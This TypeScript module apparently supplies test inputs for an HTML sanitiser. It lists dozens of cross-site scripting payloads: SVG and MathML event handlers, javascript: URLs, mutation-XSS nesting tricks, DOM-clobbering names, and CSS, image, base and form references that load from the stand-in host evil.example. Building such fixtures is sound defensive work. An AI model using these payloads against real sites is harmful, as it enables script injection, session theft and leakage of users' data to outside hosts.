import { RUN } from './run.ts'

/** In the tongues that HTML lets in: SVG, MathML, CSS, XML. */
export function foreign(): string[] {
  const events = ['onbegin', 'onend', 'onrepeat']
  return [
    ...events.map((event) => `<svg><animate ${event}=${RUN} attributeName=x dur=1s>`),
    `<svg><script>${RUN}</script></svg>`,
    `<svg><script href="data:,${RUN}"/></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`,
    `<svg><foreignObject><body onload=${RUN}>`,
    `<svg><set attributeName=href to=javascript:${RUN}>`,
    `<svg><a><animate attributeName=href values=javascript:${RUN} /><text>a`,
    `<math href="javascript:${RUN}">a</math>`,
    `<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:${RUN}">a`,
    `<math><mtext></p><img src=x onerror=${RUN}>`,
    `<style>@import "//evil.example/a.css";</style>`,
    `<style>*{background:url(//evil.example/a)}</style>`,
    `<div style="background:url(//evil.example/b)">a</div>`,
    `<div style="x:expression(${RUN})">`,
    `<link rel=stylesheet href=//evil.example/c.css>`,
    `<link rel=prefetch href=//evil.example/d>`,
    `<?xml-stylesheet href="javascript:${RUN}"?>`,
    `<object data="data:text/html,<script>${RUN}</script>">`,
    `<embed src="data:image/svg+xml,<svg onload=${RUN}>">`,
    `<base href="//evil.example/">`,
    `<applet code=a>`,
    `<portal src=//evil.example>`,
    `<img src=//evil.example/e.gif>`,
    `<img srcset="//evil.example/f.gif 1x">`,
    `<video poster=//evil.example/g.gif>`,
    `<input type=image src=//evil.example/h.gif>`,
    `<table background=//evil.example/i.gif>`,
    `![a](//evil.example/j.gif)`,
    `![a](https://evil.example/k.gif)`,
    `<form id=a action=//evil.example><input name=csrf>`,
    `<input name=__proto__>`,
    `<a id=config name=config>`,
    `<iframe srcdoc="<script>parent.${RUN}</script>">`,
    `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
  ]
}

/** What is harmless when it is read once and harmful when a browser writes and reads it again. */
export function mutations(): string[] {
  const inner = `<img src=x onerror=${RUN}>`
  const outer = [
    'noscript',
    'style',
    'title',
    'textarea',
    'xmp',
    'noembed',
    'noframes',
    'iframe',
    'script',
    'plaintext',
  ]
  return [
    ...outer.flatMap((tag) => [
      `<${tag}><p title="</${tag}>${inner}">`,
      `<svg><${tag}><a title="</${tag}>${inner}">`,
      `<math><mtext><table><mglyph><${tag}><!--</${tag}><img title="--&gt;${inner}">`,
    ]),
    ...outer.map((tag) => `<select><${tag}></select>${inner}</${tag}>`),
    `<svg></p><style><a id="</style>${inner}">`,
    `<form><math><mtext></form><form><mglyph><style></math>${inner}`,
    `<p id="</p>${inner}`,
    `<!--><img src=x onerror=${RUN}>-->`,
    `<!--!>${inner}`,
    `<![CDATA[${inner}]]>`,
    `<a href="x\`x" title="\`${inner}">`,
    `<b><i></b>${inner}</i>`,
    `<table><td>${inner}<tr>`,
    `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script>`,
    `<svg><![CDATA[><image xlink:href="]]>${inner}"></svg>`,
  ]
}
